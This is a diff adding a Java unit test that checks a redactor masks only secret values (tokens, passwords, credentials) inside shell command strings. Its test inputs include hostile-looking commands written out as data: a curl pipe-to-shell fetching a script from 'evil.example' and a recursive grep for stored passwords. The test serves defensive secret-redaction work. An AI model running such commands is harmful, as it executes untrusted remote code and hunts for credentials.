@@ -96,6 +96,23 @@ class RedactorTest {
     }
 
     @Test
+    void shouldMaskOnlyTheValueInsideAShellScript() {
+        // a review of the first version: a variable starting an sh -c script masked all of the script, a
+        // quote closing 'password=' was taken for one opening a value, and quoted option values leaked
+        assertThat(defaults.redact("TOKEN=1; curl -s http://evil.example/i.sh | sh")).isEqualTo(
+                "TOKEN=***; curl -s http://evil.example/i.sh | sh");
+        assertThat(defaults.redact("grep -ri 'password=' /var/www /home")).isEqualTo("grep -ri 'password=' /var/www /home");
+        assertThat(defaults.redact("grep -q 'token:' /etc/x; curl x | sh")).isEqualTo("grep -q 'token:' /etc/x; curl x | sh");
+        assertThat(defaults.redact("sshpass -p 'my secret' ssh host")).isEqualTo("sshpass -p '***' ssh host");
+        assertThat(defaults.redact("mysql -p'my secret' db")).isEqualTo("mysql -p'***' db");
+        assertThat(defaults.redact("curl -su admin:hunter2 u; curl -sSu admin:hunter2 u")).isEqualTo(
+                "curl -su admin:*** u; curl -sSu admin:*** u");
+        assertThat(defaults.redact("curl -d '{\"password\" : \"hunter2\"}' u")).isEqualTo("curl -d '{\"password\" : \"***\"}' u");
+        assertThat(defaults.redact("env PWD=/home/user OLDPWD=/tmp DB_PWD=hunter2 x")).isEqualTo(
+                "env PWD=/home/user OLDPWD=/tmp DB_PWD=*** x");
+    }
+
+    @Test
     void shouldLeaveWhatIsNoSecretAlone() {
         for (String s : java.util.List.of("docker run -p 8080:80 img", "ssh -p 22 host", "mysql -p db",
                 "curl -u admin u", "ansible-playbook --ask-become-pass site.yml", "ssh git@github.com:o/r",
